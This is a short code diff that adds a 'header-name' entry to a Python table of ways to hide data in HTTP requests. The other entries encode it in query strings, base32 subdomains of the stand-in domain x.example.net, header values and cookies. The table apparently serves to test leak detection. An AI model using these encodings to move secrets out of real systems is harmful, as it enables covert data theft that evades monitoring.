@@ -63,6 +63,7 @@ LEAKS = {
     "query": lambda s: request(path="/p?q=" + urllib.parse.quote(s) + "&n=1", method="GET"),
     "host-base32": lambda s: request(host=_labels(base64.b32encode(s)) + ".x.example.net"),
     "header": lambda s: request(headers=(("x-debug", s.decode()),)),
+    "header-name": lambda s: request(headers=(("x-" + s.hex(), "1"),)),
     "cookie": lambda s: request(
         headers=(("cookie", "sid=1; t=" + base64.urlsafe_b64encode(s).decode()),)
     ),
